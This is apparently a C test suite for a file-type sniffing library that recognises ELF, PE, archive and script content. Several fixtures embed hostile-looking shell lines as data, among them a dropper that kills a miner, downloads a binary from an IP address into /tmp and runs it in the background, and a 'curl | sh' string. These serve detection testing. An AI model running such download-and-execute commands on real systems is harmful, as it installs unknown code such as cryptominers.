/*
 * test_filetype.c - content sniffing on real bytes: the machine's own ELF
 * (/bin/true, with an embedded x86-64 header when it cannot be read), a PE
 * header built here, every archive magic, scripts with and without #!, and
 * the look-alikes that must stay "other": prose quoting a curl command, an
 * HTML page with an inline script, JSON, images.
 */
#include <stdio.h>
#include <string.h>

#include "check.h"
#include "filetype.h"

static enum file_type sniff(const void *p, size_t n, const char **detail)
{
    return filetype_sniff(p, n, detail);
}

static enum file_type sniff_str(const char *s, const char **detail)
{
    return filetype_sniff((const uint8_t *)s, strlen(s), detail);
}

static void test_names(void)
{
    CHECK_STR(filetype_name(FT_OTHER), "other");
    CHECK_STR(filetype_name(FT_SHELL), "shell-script");
    CHECK_STR(filetype_name(FT_ELF), "elf");
    CHECK_STR(filetype_name(FT_PE), "pe");
    CHECK_STR(filetype_name(FT_PYTHON), "python");
    CHECK_STR(filetype_name(FT_PERL), "perl");
    CHECK_STR(filetype_name(FT_ARCHIVE), "archive");
    CHECK_STR(filetype_name((enum file_type)99), "other");
    CHECK(filetype_is_script(FT_SHELL) && filetype_is_script(FT_PYTHON) &&
          filetype_is_script(FT_PERL));
    CHECK(!filetype_is_script(FT_ELF) && !filetype_is_script(FT_ARCHIVE));
    CHECK(filetype_is_executable(FT_ELF) && filetype_is_executable(FT_PE) &&
          filetype_is_executable(FT_SHELL));
    CHECK(!filetype_is_executable(FT_ARCHIVE) && !filetype_is_executable(FT_OTHER));
}

static void test_elf(void)
{
    /* the first 64 bytes of /bin/true from Debian 12 amd64 (coreutils 9.1-1) */
    static const uint8_t elf64[64] = {
        0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00,
        0x00, 0x00, 0x00, 0x03, 0x00, 0x3e, 0x00, 0x01, 0x00, 0x00, 0x00, 0xd0, 0x23,
        0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x40, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00,
        0x00, 0x90, 0x83, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00,
        0x40, 0x00, 0x38, 0x00, 0x0d, 0x00, 0x40, 0x00, 0x1f, 0x00, 0x1e, 0x00,
    };
    uint8_t buf[FILETYPE_SNIFF_BYTES], arm[64];
    const char *d = NULL;
    FILE *fp = fopen("/bin/true", "rb");
    size_t n = fp ? fread(buf, 1, sizeof(buf), fp) : 0;

    if (fp)
        fclose(fp);
    if (n >= 20) { /* whatever the machine is, its own binary is an ELF */
        CHECK_EQ(sniff(buf, n, &d), FT_ELF);
        CHECK(strncmp(d, "ELF ", 4) == 0);
    }
    CHECK_EQ(sniff(elf64, sizeof(elf64), &d), FT_ELF);
    CHECK_STR(d, "ELF 64-bit x86-64");
    memcpy(arm, elf64, sizeof(arm)); /* a 32-bit ARM (Mirai-style) header */
    arm[4] = 1;
    arm[18] = 40;
    CHECK_EQ(sniff(arm, sizeof(arm), &d), FT_ELF);
    CHECK_STR(d, "ELF 32-bit ARM");
    arm[5] = 2; /* big-endian MIPS: machine 8 as 00 08 */
    arm[18] = 0;
    arm[19] = 8;
    CHECK_EQ(sniff(arm, sizeof(arm), &d), FT_ELF);
    CHECK_STR(d, "ELF 32-bit MIPS");
    arm[19] = 0xee; /* an unknown machine still says the class */
    CHECK_EQ(sniff(arm, sizeof(arm), &d), FT_ELF);
    CHECK_STR(d, "ELF 32-bit");
    CHECK_EQ(sniff(elf64, 6, &d), FT_ELF); /* too short for the machine */
    CHECK_STR(d, "ELF 64-bit");
    CHECK_EQ(sniff("\x7f"
                   "EL",
                   3, &d),
             FT_OTHER);
}

static void test_pe(void)
{
    uint8_t pe[512];
    const char *d = NULL;

    memset(pe, 0, sizeof(pe));
    pe[0] = 'M';
    pe[1] = 'Z';
    memcpy(pe + 0x4e, "This program cannot be run in DOS mode.", 39);
    pe[0x3c] = 0x80; /* e_lfanew */
    memcpy(pe + 0x80, "PE\0\0", 4);
    pe[0x84] = 0x64; /* IMAGE_FILE_MACHINE_AMD64 */
    pe[0x85] = 0x86;
    pe[0x96] = 0x22; /* Characteristics: executable, large address aware */
    CHECK_EQ(sniff(pe, sizeof(pe), &d), FT_PE);
    CHECK_STR(d, "PE32+ x86-64");
    pe[0x97] = 0x20; /* IMAGE_FILE_DLL */
    CHECK_EQ(sniff(pe, sizeof(pe), &d), FT_PE);
    CHECK_STR(d, "PE32+ x86-64 DLL");
    pe[0x97] = 0;
    pe[0x84] = 0x4c;
    pe[0x85] = 0x01;
    CHECK_EQ(sniff(pe, sizeof(pe), &d), FT_PE);
    CHECK_STR(d, "PE32 i386");
    /* the PE header is past the sniffed bytes: still MZ */
    CHECK_EQ(sniff(pe, 0x82, &d), FT_PE);
    CHECK_STR(d, "MZ");
    pe[0x3c] = 0xff; /* e_lfanew far away */
    pe[0x3d] = 0xff;
    CHECK_EQ(sniff(pe, sizeof(pe), &d), FT_PE);
    CHECK_STR(d, "MZ");
    CHECK_EQ(sniff("MZ", 2, &d), FT_PE);
    CHECK_STR(d, "MZ");
}

static void test_archives(void)
{
    static const struct {
        const char *bytes;
        size_t len;
        const char *detail;
    } a[] = {
        {"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03", 10, "gzip"},
        {"PK\x03\x04\x14\x00\x00\x00\x08\x00", 10, "zip"},
        {"PK\x05\x06\x00\x00\x00\x00", 8, "zip"},
        {"BZh91AY&SY", 10, "bzip2"},
        {"\xfd"
         "7zXZ\x00\x00\x04",
         8, "xz"},
        {"7z\xbc\xaf\x27\x1c\x00\x04", 8, "7z"},
        {"\x28\xb5\x2f\xfd\x04\x58", 6, "zstd"},
    };
    uint8_t tar[1024];
    const char *d = NULL;

    for (size_t i = 0; i < sizeof(a) / sizeof(a[0]); i++) {
        CHECK_EQ(sniff(a[i].bytes, a[i].len, &d), FT_ARCHIVE);
        CHECK_STR(d, a[i].detail);
    }
    CHECK_EQ(sniff("BZhx", 4, &d), FT_OTHER); /* BZh needs a block size digit */
    /* a ustar header: name, mode... then "ustar\0" "00" at 257 */
    memset(tar, 0, sizeof(tar));
    memcpy(tar, "xmrig-6.21.0/xmrig", 18);
    memcpy(tar + 100, "0000755", 7);
    memcpy(tar + 257, "ustar\00000", 8);
    CHECK_EQ(sniff(tar, sizeof(tar), &d), FT_ARCHIVE);
    CHECK_STR(d, "tar");
    /* only when the bytes reach offset 257 */
    CHECK(sniff(tar, 200, &d) != FT_ARCHIVE);
}

static void test_images_markup(void)
{
    const char *d = NULL;

    CHECK_EQ(sniff("\x89PNG\r\n\x1a\n\0\0\0\rIHDR", 16, &d), FT_OTHER);
    CHECK_STR(d, "png");
    CHECK_EQ(sniff("\xff\xd8\xff\xe0\0\x10JFIF", 10, &d), FT_OTHER);
    CHECK_STR(d, "jpeg");
    CHECK_EQ(sniff("GIF89a\x01\0\x01\0", 10, &d), FT_OTHER);
    CHECK_STR(d, "gif");
    CHECK_EQ(sniff_str("<!DOCTYPE html>\n<html><head><title>x</title>\n"
                       "<script>\nwget = 1;\ncurl = 2;\nchmod = 3;\n</script>\n",
                       &d),
             FT_OTHER);
    CHECK_STR(d, "html");
    CHECK_EQ(sniff_str("\n  <html>\n<body>echo hi\ncurl x\n</body></html>", &d), FT_OTHER);
    CHECK_STR(d, "html");
    CHECK_EQ(sniff_str("<?xml version=\"1.0\"?>\n<a>curl</a>", &d), FT_OTHER);
    CHECK_STR(d, "xml");
    CHECK_EQ(sniff_str("{\"cmd\": \"curl http://x/a.sh | sh\",\n \"echo\": 1}", &d), FT_OTHER);
    CHECK_STR(d, "json");
    CHECK_EQ(sniff_str("[1,2,3]", &d), FT_OTHER);
    CHECK_STR(d, "json");
    CHECK_EQ(sniff("", 0, &d), FT_OTHER);
    CHECK_STR(d, "empty");
    CHECK_EQ(sniff(NULL, 0, &d), FT_OTHER);
    CHECK_EQ(sniff_str(" \r\n\n", &d), FT_OTHER);
    CHECK_STR(d, "empty");
    CHECK_EQ(sniff("echo a\0\0\0\1\2", 11, &d), FT_OTHER);
    CHECK_STR(d, "data");
    CHECK_EQ(sniff_str("plain", NULL), FT_OTHER); /* detail may be NULL */
}

static void test_shebang(void)
{
    static const struct {
        const char *text;
        enum file_type t;
        const char *detail;
    } s[] = {
        {"#!/bin/sh\necho hi\n", FT_SHELL, "sh"},
        {"#!/bin/bash\nset -e\n", FT_SHELL, "bash"},
        {"#! /bin/dash\n", FT_SHELL, "dash"},
        {"#!/bin/ash\n", FT_SHELL, "ash"},
        {"#!/usr/bin/zsh\n", FT_SHELL, "zsh"},
        {"#!/bin/ksh -p\n", FT_SHELL, "ksh"},
        {"#!/usr/bin/env bash\necho\n", FT_SHELL, "bash"},
        {"#!/usr/bin/env -S bash -e\n", FT_SHELL, "bash"},
        {"#!/bin/busybox sh\nwget x\n", FT_SHELL, "busybox sh"},
        {"#!/bin/busybox ash\n", FT_SHELL, "busybox sh"},
        {"#!/bin/sh\r\nexit 0\r\n", FT_SHELL, "sh"},
        {"#!/usr/bin/python3\nimport os\n", FT_PYTHON, "python"},
        {"#!/usr/bin/env python\n", FT_PYTHON, "python"},
        {"#!/usr/bin/python2.7\n", FT_PYTHON, "python"},
        {"#!/usr/bin/perl -w\nuse strict;\n", FT_PERL, "perl"},
        {"#!/usr/bin/env perl\n", FT_PERL, "perl"},
        {"#!/usr/bin/env node\nconsole.log(1)\n", FT_OTHER, "script"},
        {"#!/bin/busybox\n", FT_OTHER, "script"},
        {"#!\n", FT_OTHER, "script"},
        {"\xef\xbb\xbf#!/bin/sh\necho\n", FT_SHELL, "sh"},
    };
    const char *d = NULL;

    for (size_t i = 0; i < sizeof(s) / sizeof(s[0]); i++) {
        enum file_type t = sniff_str(s[i].text, &d);

        CHECK_EQ(t, s[i].t);
        CHECK_STR(d, s[i].detail);
        if (t != s[i].t)
            fprintf(stderr, "  case %zu: %s\n", i, s[i].text);
    }
}

static void test_heuristics(void)
{
    const char *d = NULL;
    /* Graboid-style dropper without a #! line */
    const char *dropper = "# worker\n"
                          "export PATH=$PATH:/usr/local/bin\n"
                          "cd /tmp\n"
                          "pkill -9 xmrig\n"
                          "wget -q http://10.1.2.3/xmr -O /tmp/x; chmod +x /tmp/x\n"
                          "nohup /tmp/x >/dev/null 2>&1 &\n";
    const char *ifthen = "if [ -f /tmp/.lock ]; then\n  exit 0\nfi\n";
    const char *forloop = "for h in $(cat hosts); do\n  ssh $h true\ndone\n";
    const char *assign = "URL=http://1.2.3.4/a\nMINER=\"$HOME/.x\"\ncurl -s $URL -o $MINER\n";
    const char *prose = "This tool downloads files. For example you could run\n"
                        "curl https://example.org/install.sh to fetch the installer, then\n"
                        "read it before running anything. The project is maintained by\n"
                        "volunteers and released under the MIT licence.\n";
    const char *one_cmd = "curl is a command-line tool.\nIt speaks HTTP.\n";
    const char *python = "import os\nimport socket\n\ndef main():\n    os.system('id')\n";
    const char *python2 = "from urllib.request import urlopen\nimport subprocess\n";
    const char *python_one_import = "import this\nand some text\n";
    const char *perl = "use strict;\nuse warnings;\nmy $x = 1;\n";
    const char *perl2 = "my $host = shift;\nmy $port = 80;\nprint $host;\n";

    CHECK_EQ(sniff_str(dropper, &d), FT_SHELL);
    CHECK_STR(d, "sh (no #!)");
    CHECK_EQ(sniff_str(ifthen, &d), FT_SHELL);
    CHECK_EQ(sniff_str(forloop, &d), FT_SHELL);
    CHECK_EQ(sniff_str(assign, &d), FT_SHELL);
    CHECK_EQ(sniff_str(prose, &d), FT_OTHER);
    CHECK_STR(d, "text");
    CHECK_EQ(sniff_str(one_cmd, &d), FT_OTHER);
    CHECK_EQ(sniff_str(python, &d), FT_PYTHON);
    CHECK_STR(d, "python (no #!)");
    CHECK_EQ(sniff_str(python2, &d), FT_PYTHON);
    CHECK_EQ(sniff_str(python_one_import, &d), FT_OTHER);
    CHECK_EQ(sniff_str(perl, &d), FT_PERL);
    CHECK_STR(d, "perl (no #!)");
    CHECK_EQ(sniff_str(perl2, &d), FT_PERL);
}

/* Only the first FILETYPE_SNIFF_BYTES count, and any prefix is judged without overreading. */
static void test_bounds(void)
{
    static char big[4096];
    const char *d = NULL;

    memset(big, 'a', sizeof(big));
    memcpy(big + 2000,
           "\x7f"
           "ELF",
           4);
    CHECK_EQ(sniff(big, sizeof(big), &d), FT_OTHER);
    CHECK_STR(d, "text");
    memset(big, 0, sizeof(big));
    memcpy(big + FILETYPE_SNIFF_BYTES + 1, "PE", 2); /* beyond what is read */
    big[0] = 'M';
    big[1] = 'Z';
    big[0x3c] = (char)((FILETYPE_SNIFF_BYTES + 1) & 0xff);
    big[0x3d] = (char)((FILETYPE_SNIFF_BYTES + 1) >> 8);
    CHECK_EQ(sniff(big, sizeof(big), &d), FT_PE);
    CHECK_STR(d, "MZ");
    for (size_t n = 0; n <= 80; n++) { /* every prefix of a script */
        enum file_type t =
            filetype_sniff((const uint8_t *)"#!/bin/bash\nwget http://x/y; chmod +x y; ./y\n",
                           n < 45 ? n : 45, &d);
        CHECK(d != NULL);
        if (n >= 11)
            CHECK_EQ(t, FT_SHELL);
    }
}

int main(void)
{
    test_names();
    test_elf();
    test_pe();
    test_archives();
    test_images_markup();
    test_shebang();
    test_heuristics();
    test_bounds();
    return check_done();
}
